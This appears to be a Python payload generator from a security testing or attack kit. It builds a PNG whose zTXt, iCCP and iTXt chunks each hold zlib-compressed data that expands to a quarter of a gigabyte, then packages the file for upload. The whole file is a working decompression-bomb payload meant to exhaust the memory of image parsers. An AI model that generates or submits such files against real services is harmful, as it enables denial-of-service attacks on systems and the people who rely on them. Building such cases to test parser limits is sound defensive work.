"""A PNG with compressed text and a color profile that unpack to a quarter of a gigabyte each."""

import zlib


def upload(kit):
    png, header = kit.tools.png, kit.tools.png_header
    still, bomb = kit.tools.plain_mask(), zlib.compress(bytes(2**28), 9)
    pixels = [(b"IDAT", still[41:-16]), (b"IEND", b"")]
    payload = png(header(), (b"zTXt", b"a\0\0" + bomb), (b"iCCP", b"a\0\0" + bomb), (b"iTXt", b"a\0\1\0\0\0" + bomb), *pixels)
    return kit.image({"payload": kit.tools.File(payload)}).tar()
